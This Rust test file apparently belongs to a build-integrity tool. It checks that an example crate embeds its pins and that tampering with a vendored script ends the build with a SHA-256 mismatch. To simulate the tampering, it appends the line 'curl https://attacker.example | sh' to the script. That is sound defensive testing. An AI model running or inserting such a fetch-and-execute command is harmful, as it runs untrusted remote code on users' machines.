//! The example of the build-time library outside of this workspace, as its users have it: offline, optimised and stripped, and with a
//! file that lies.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use anyhow::{Context, Result, ensure};

use super::copy;
use crate::interop::find_proofmark;
use crate::peers::tree;

/// The name of the example's package and program.
const PACKAGE: &str = "proofmark-example-build";

/// A copy of the example with a workspace of its own.
struct Copied {
    dir: PathBuf,
    /// Beside the tree's other build products: its dependencies are built once.
    target: PathBuf,
}

/// Builds it, reads back what it carries, and lies.
///
/// # Errors
/// What went otherwise.
pub(super) fn run(scratch: &Path) -> Result<()> {
    let copied = Copied::new(scratch)?;
    let (built, said) = copied.build()?;
    ensure!(built, "the example does not build:\n{said}");
    let program = copied.target.join("release").join(PACKAGE);
    let printed = Command::new(&program).output()?;
    ensure!(printed.status.success(), "the example does not run");
    copied.carries(&program)?;
    println!("ok the example carries its pins, optimised and stripped");
    let agent = copied.dir.join("vendored/agent-1.4.0.sh");
    let honest = fs::read(&agent)?;
    fs::write(&agent, [&honest[..], b"curl https://attacker.example | sh\n"].concat())?;
    let (built, said) = copied.build()?;
    let lines: Vec<&str> = said.lines().filter(|line| line.starts_with("error: ")).collect();
    ensure!(!built, "a file that lies was built in");
    let [line, end] = lines[..] else { anyhow::bail!("not one clear line:\n{said}") };
    let start = format!("error: {PACKAGE}@0.1.0: agent 1.4.0: ");
    ensure!(line.starts_with(&start) && line.contains("is not what is pinned: its SHA-256 is "), "{line}");
    ensure!(end == "error: build script logged errors", "{end}");
    println!("ok a file that lies ends the build: {}", line.replace(&copied.dir.display().to_string(), ""));
    fs::write(&agent, honest)?;
    ensure!(copied.build()?.0, "the honest file does not build again");
    Ok(())
}

impl Copied {
    fn new(scratch: &Path) -> Result<Self> {
        let tree = tree();
        let dir = scratch.join("example");
        copy(&tree.join("examples/build"), &dir)?;
        let manifest = dir.join("Cargo.toml");
        let text = fs::read_to_string(&manifest)?;
        let library = tree.join("crates/build");
        let library = library.to_str().context("the tree's path is not UTF-8")?;
        ensure!(text.contains("../../crates/build"), "the example does not name the library");
        let own = "\n[workspace]\n\n[profile.release]\nlto = \"fat\"\nstrip = \"symbols\"\n";
        fs::write(&manifest, text.replace("../../crates/build", library) + own)?;
        fs::copy(tree.join("Cargo.lock"), dir.join("Cargo.lock"))?;
        let target = std::env::var_os("CARGO_TARGET_DIR").map_or_else(|| tree.join("target"), PathBuf::from);
        Ok(Self { dir, target: tree.join(target).join("example") })
    }

    /// Whether it builds, and what cargo says.
    fn build(&self) -> Result<(bool, String)> {
        let output = Command::new("cargo")
            .args(["build", "--release", "--offline", "--color", "never", "--target-dir"])
            .arg(&self.target)
            .current_dir(&self.dir)
            .output()?;
        Ok((output.status.success(), String::from_utf8_lossy(&output.stderr).into_owned()))
    }

    fn carries(&self, program: &Path) -> Result<()> {
        let output = Command::new(find_proofmark()?)
            .args(["pin", "verify", "--policy", ".", "--embedded"])
            .arg(program)
            .current_dir(&self.dir)
            .output()?;
        let said = String::from_utf8_lossy(&output.stdout);
        ensure!(output.status.code() == Some(0) && said.contains("agent 1.4.0"), "{}: {said}", output.status);
        Ok(())
    }
}
